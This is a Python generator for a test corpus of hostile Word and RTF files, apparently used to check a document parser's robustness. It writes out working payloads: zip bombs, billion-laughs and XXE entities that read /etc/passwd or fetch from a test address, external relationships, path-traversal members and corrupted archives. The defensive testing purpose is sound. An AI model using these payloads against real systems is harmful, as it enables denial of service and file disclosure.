"""Word processor files for the hostile corpus: bombs, entities, links outside, noise."""

import random
import zipfile
from collections.abc import Iterator

from hostile_files import EITHER, FORMULA, LEFT_OUT, READ, Made, Maker, adds_to
from office import NAMESPACES, WORD, docx, paragraph, run, zipped

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
KINDS: dict[str, Maker] = {}
kind = adds_to(KINDS)


@kind
def docx_bombs(_: str) -> Iterator[Made]:
    head = f"<w:document {NAMESPACES}><w:body>"
    yield Made("blanks.docx", zipped({"word/document.xml": head + " " * (60 << 20)}), LEFT_OUT)
    letters = head + "<w:p><w:r><w:t>" + "安" * (12 << 20)
    yield Made("letters.docx", zipped({"word/document.xml": letters}), LEFT_OUT)
    lie = bytearray(zipped({"word/document.xml": head + " " * (60 << 20)}))
    at = lie.find(b"PK\x01\x02")
    lie[at + 24 : at + 28] = (100).to_bytes(4, "little")
    yield Made("lie.docx", bytes(lie), LEFT_OUT)


@kind
def docx_with_other_members(_: str) -> Iterator[Made]:
    inner = zipped({"a": bytes(20 << 20)})
    yield Made("nested.docx", docx(paragraph(FORMULA), more={"word/a.zip": inner}), READ)
    many = {f"word/{n}.xml": "" for n in range(20_000)}
    yield Made("members.docx", docx(paragraph(FORMULA), more=dict.fromkeys(many, b"")), READ)


@kind
def docx_entities(address: str) -> Iterator[Made]:
    def body(declared: str, used: str) -> bytes:
        return zipped(
            {
                "word/document.xml": f"<!DOCTYPE w:document {declared}>"
                f"<w:document {NAMESPACES}><w:body>{paragraph('x').replace('x</w:t>', used + '</w:t>')}"
                "</w:body></w:document>"
            }
        )

    laughs = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    yield Made("laughs.docx", body(f'[<!ENTITY e0 "ha">{laughs}]', "&e9;"), LEFT_OUT)
    long = f'[<!ENTITY e "{"a" * 100_000}">]'
    yield Made("quadratic.docx", body(long, "&e;" * 10_000), LEFT_OUT)
    yield Made("file.docx", body('[<!ENTITY e SYSTEM "file:///etc/passwd">]', "&e;"), LEFT_OUT)
    yield Made("fetch.docx", body(f'[<!ENTITY e SYSTEM "{address}/e">]', "&e;"), LEFT_OUT)
    yield Made("dtd.docx", body(f'SYSTEM "{address}/a.dtd"', "x"), LEFT_OUT)
    parameter = f'[<!ENTITY % p SYSTEM "{address}/p"> %p;]'
    yield Made("parameter.docx", body(parameter, "x"), LEFT_OUT)


@kind
def docx_external(address: str) -> Iterator[Made]:
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="t" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        '{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    for name in ("attachedTemplate", "styles", "numbering", "image", "footnotes"):
        rels = relations.format(kind=f"relationships/{name}", target=f"{address}/{name}")
        more = {"word/_rels/document.xml.rels": rels.encode()}
        yield Made(f"{name}.docx", docx(paragraph(FORMULA), more=more), READ)
    away = relations.format(kind="relationships/styles", target="../../../../etc/passwd").replace(
        ' TargetMode="External"', ""
    )
    more = {"word/_rels/document.xml.rels": away.encode(), "../../../escape.txt": b"x"}
    yield Made("escape.docx", docx(paragraph(FORMULA), more=more), READ)


@kind
def docx_deep(_: str) -> Iterator[Made]:
    for name, tag in (
        ("controls", "w:sdt"),
        ("boxes", "w:txbxContent"),
        ("tables", "w:tbl"),
        ("other", "x:y"),
    ):
        for depth, becomes in ((1_000, READ), (100_000, LEFT_OUT)):
            body = f"<{tag}>" * depth + paragraph(FORMULA) + f"</{tag}>" * depth
            yield Made(f"{name}{depth}.docx", docx(body), becomes)


@kind
def docx_odd(_: str) -> Iterator[Made]:
    loop = "".join(
        f'<w:style w:styleId="{a}"><w:basedOn w:val="{b}"/></w:style>'
        for a, b in ("ab", "ba", "cc")
    )
    styled = paragraph(FORMULA, properties='<w:pStyle w:val="a"/>')
    yield Made("styles.docx", docx(styled, parts={"styles": loop}), READ)
    yield Made(
        "changes.docx", docx(f"<w:del>{paragraph('x')}</w:del>" * 500 + paragraph(FORMULA)), READ
    )
    fields = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 5000
    yield Made("fields.docx", docx(paragraph(FORMULA, fields)), READ)
    yield Made(
        "ends.docx", docx(paragraph('<w:r><w:fldChar w:fldCharType="end"/></w:r>', FORMULA)), READ
    )
    notes = '<w:r><w:footnoteReference w:id="1"/></w:r>' * 5000
    yield Made("notes.docx", docx(paragraph(FORMULA, notes)), READ)
    yield Made("attribute.docx", docx(f'<w:p w:x="{"y" * 3_000_000}"/>' + paragraph(FORMULA)), READ)
    yield Made(
        "no-body.docx", zipped({"word/document.xml": f'<w:document xmlns:w="{WORD}"/>'}), READ
    )


@kind
def docx_broken(_: str) -> Iterator[Made]:
    whole = docx(paragraph(*(run(FORMULA) for _ in range(50))))
    for part in (1, 2, 3):
        yield Made(f"cut{part}.docx", whole[: len(whole) * part // 4], LEFT_OUT)
    yield Made("lzma.docx", docx(paragraph(FORMULA), compression=zipfile.ZIP_LZMA), LEFT_OUT)
    yield Made("sheet.docx", zipped({"xl/workbook.xml": "<workbook/>"}), LEFT_OUT)
    yield Made("markup.docx", zipped({"word/document.xml": "<w:document"}), LEFT_OUT)
    yield Made(
        "utf7.docx",
        zipped({"word/document.xml": '<?xml version="1.0" encoding="utf-7"?><a/>'}),
        LEFT_OUT,
    )
    yield Made("text.docx", FORMULA.encode(), LEFT_OUT)
    locked = bytearray(whole)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := locked.find(mark, at + 1)) >= 0:
            locked[at + place] |= 1
    yield Made("locked.docx", bytes(locked), LEFT_OUT)
    secret = OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le")
    yield Made("password.docx", secret, LEFT_OUT)


@kind
def docx_noise(_: str) -> Iterator[Made]:
    whole, chance = docx(paragraph(FORMULA)), random.Random(5)
    for number in range(15):
        data = bytearray(whole)
        for _n in range(8):
            data[chance.randrange(len(data))] = chance.randrange(256)
        yield Made(f"{number}.docx", bytes(data), EITHER)


@kind
def old_formats(address: str) -> Iterator[Made]:
    yield Made("noise.doc", OLE + random.Random(3).randbytes(4000), LEFT_OUT)
    words = "WordDocument".encode("utf-16-le")
    yield Made("words.doc", OLE + words + random.Random(3).randbytes(4000), EITHER)
    yield Made("locked.wps", OLE + "EncryptedPackage".encode("utf-16-le"), LEFT_OUT)
    link = f'{{\\field{{\\*\\fldinst INCLUDEPICTURE "{address}/rtf.png"}}}}'
    yield Made("link.rtf", f"{{\\rtf1 {link} text\\par}}".encode(), EITHER)
    yield Made("deep.rtf", b"{\\rtf1" + b"{" * 200_000, EITHER)
    yield Made("page.doc", f"<html><body><p>{FORMULA}</p></body></html>".encode(), READ)
    yield Made("new.doc", docx(paragraph(FORMULA)), READ)
